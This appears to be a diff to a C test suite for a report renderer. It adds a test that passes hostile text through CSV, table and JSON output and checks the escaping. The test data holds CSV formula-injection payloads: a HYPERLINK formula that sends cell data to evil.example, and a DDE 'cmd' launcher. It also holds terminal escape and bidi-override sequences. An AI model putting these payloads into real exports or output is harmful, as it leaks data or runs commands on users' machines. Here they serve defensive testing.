@@ -140,7 +140,8 @@ static void test_gaps(void)
     const char *want =
         "scope,versus,section,own,own_n,competitors,competitors_n,gap,gap_low,gap_high,"
         "significant,low_n,q\r\n"
-        "branch B001,within 2.5 km (1 outlet),(overall),80.0,5,70.0,2,10.0,-5.5,25.6,,true,\r\n"
+        /* -5.55 and 25.55 both round away from zero (printf gave -5.5) */
+        "branch B001,within 2.5 km (1 outlet),(overall),80.0,5,70.0,2,10.0,-5.6,25.6,,true,\r\n"
         "chain ACME,all competitors (4 outlets),GREET,75.0,40,,0,,,,,false,\r\n"
         "\r\n"
         "period,label,start,days,days_covered,partial\r\n"
@@ -157,9 +158,105 @@ static void test_gaps(void)
     bm_competitors_result_destroy(&res.u.competitors);
 }
 
+/* Text from store systems through the three writers (issue 16, item 5). */
+static const char *const s_hostile[] = {
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "@SUM(A1:A9)",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+    "ESC\x1b]0;pwned\x07 \x1b[2J",
+    "bidi \xe2\x80\xae" "evil",
+    "C1 \xc2\x9b" "31m",
+    "bad \xff byte",
+    "-5.5 - 3.2",          /* a number list (a trend): stays as it is */
+    "Ruse, \"Center\"",
+    "plain",
+};
+#define S_NHOSTILE (sizeof s_hostile / sizeof s_hostile[0])
+
+static char *s_print_table(bm_format_t fmt)
+{
+    static const char *const cols[] = {"category", "value"};
+    bm_report_t *rep = bm_report_new();
+    bm_table_t *t = bm_table_new("causes", 2, cols);
+    for (size_t i = 0; t && i < S_NHOSTILE; i++) {
+        bm_table_add_row(t);
+        bm_table_set_text(t, 0, s_hostile[i]);
+        bm_table_set_num(t, 1, -5.55 - (double)i, 1);
+    }
+    CHECK(rep && t && bm_report_add(rep, &t) == 0);
+    bm_report_note(rep, "branch B001 (\x1b[31mred\x1b[0m)");
+    char *buf = NULL;
+    size_t len = 0;
+    FILE *out = open_memstream(&buf, &len);
+    CHECK(out && bm_report_print(rep, fmt, out) == 0);
+    fclose(out);
+    bm_report_destroy(&rep);
+    return buf;
+}
+
+/* No byte a terminal acts on: C0 except LF (and CR of CSV line ends),
+ * DEL, C1 as UTF-8, bidi overrides, bytes that are not UTF-8. */
+static int s_terminal_safe(const char *s, int csv)
+{
+    for (const unsigned char *u = (const unsigned char *)s; *u; u++) {
+        if ((*u < 0x20 && *u != '\n' && !(csv && *u == '\r' && u[1] == '\n')) || *u == 0x7F ||
+            *u == 0xFF || (*u == 0xC2 && u[1] >= 0x80 && u[1] <= 0x9F) ||
+            (*u == 0xE2 && u[1] == 0x80 && u[2] >= 0xAA && u[2] <= 0xAE))
+            return 0;
+    }
+    return 1;
+}
+
+static void test_hostile_text(void)
+{
+    char *csv = s_print_table(BM_FMT_CSV);
+    const char *want =
+        "category,value\r\n"
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",-5.6\r\n"
+        "\"'@SUM(A1:A9)\",-6.6\r\n"
+        "\"'+1+cmd|' /C calc'!A0\",-7.6\r\n"
+        "\"'-2+3\",-8.6\r\n"
+        "\"'\tTAB\",-9.6\r\n"
+        "\"'\rCR\",-10.6\r\n"
+        "ESC\\x1b]0;pwned\\x07 \\x1b[2J,-11.6\r\n"
+        "bidi \\u202eevil,-12.6\r\n"
+        "C1 \\u009b31m,-13.6\r\n"
+        "bad \\xff byte,-14.6\r\n"
+        "-5.5 - 3.2,-15.6\r\n"
+        "\"Ruse, \"\"Center\"\"\",-16.6\r\n"
+        "plain,-17.6\r\n";
+    if (!csv || strcmp(csv, want))
+        fprintf(stderr, "got:\n%s\nwant:\n%s\n", csv ? csv : "(null)", want);
+    CHECK(csv && !strcmp(csv, want));
+    free(csv);
+
+    char *table = s_print_table(BM_FMT_TABLE);
+    CHECK(table && s_terminal_safe(table, 0));
+    CHECK(table && strstr(table, "ESC\\x1b]0;pwned\\x07 \\x1b[2J"));
+    CHECK(table && strstr(table, "\\tTAB") && strstr(table, "\\rCR"));
+    CHECK(table && strstr(table, "bidi \\u202eevil") && strstr(table, "bad \\xff byte"));
+    CHECK(table && strstr(table, "branch B001 (\\x1b[31mred\\x1b[0m)"));
+    CHECK(table && strstr(table, "=HYPERLINK(") && strstr(table, "-5.6"));
+    free(table);
+
+    /* JSON: the same strings to a parser, escaped for a terminal. */
+    char *json = s_print_table(BM_FMT_JSON);
+    CHECK(json && s_terminal_safe(json, 0));
+    CHECK(json && strstr(json, "\"ESC\\u001B]0;pwned\\u0007 \\u001B[2J\""));
+    CHECK(json && strstr(json, "\"bidi \\u202Eevil\"") && strstr(json, "\"C1 \\u009B31m\""));
+    CHECK(json && strstr(json, "\"bad \\uFFFD byte\""));
+    CHECK(json && strstr(json, "\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\""));
+    CHECK(json && strstr(json, "\"value\": -5.6"));
+    free(json);
+}
+
 int main(void)
 {
     test_rank();
     test_gaps();
+    test_hostile_text();
     return bm_test_result("test_render");
 }
